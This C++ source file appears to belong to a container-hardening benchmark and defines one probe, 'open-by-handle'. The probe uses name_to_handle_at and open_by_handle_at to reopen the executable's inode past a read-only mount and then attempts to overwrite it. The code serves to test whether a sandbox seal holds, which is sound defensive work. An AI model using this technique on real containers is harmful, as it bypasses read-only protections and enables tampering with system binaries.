// open-by-handle: the file by its file handle, through the container's own root mount.
#include <fcntl.h>

#include "sys/unique_fd.hpp"
#include "workloads/payloads/probe/attack.hpp"
#include "workloads/payloads/probe/probe.hpp"

namespace sealbench::probe {

const Probe& open_by_handle() {
  static const Probe kProbe{
      .name = "open-by-handle",
      .goal = Goal::file_handle,
      .summary = "asks for the file handle of the exe and opens it through the mount of the container's root",
      .mechanism =
          "a file handle names an inode of a filesystem, not of a mount: with CAP_DAC_READ_SEARCH and a root on the "
          "exe's "
          "filesystem it leads past the read-only mount",
      .attempt =
          [](Attack& attack) {
            union {
              struct file_handle handle;
              unsigned char storage[sizeof(struct file_handle) + MAX_HANDLE_SZ];
            } name{};
            name.handle.handle_bytes = MAX_HANDLE_SZ;
            int mount_id = 0;
            if (attack.did("name_to_handle_at",
                           ::name_to_handle_at(attack.handle(), "", &name.handle, &mount_id, AT_EMPTY_PATH)) < 0) {
              return;
            }
            const sys::UniqueFd root(::open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
            const sys::UniqueFd fd(
                attack.did("open_by_handle_at", ::open_by_handle_at(root.get(), &name.handle, O_PATH | O_CLOEXEC)));
            if (fd) attack.overwrite(Attack::path_of(fd.get()));
          },
  };
  return kProbe;
}

}  // namespace sealbench::probe
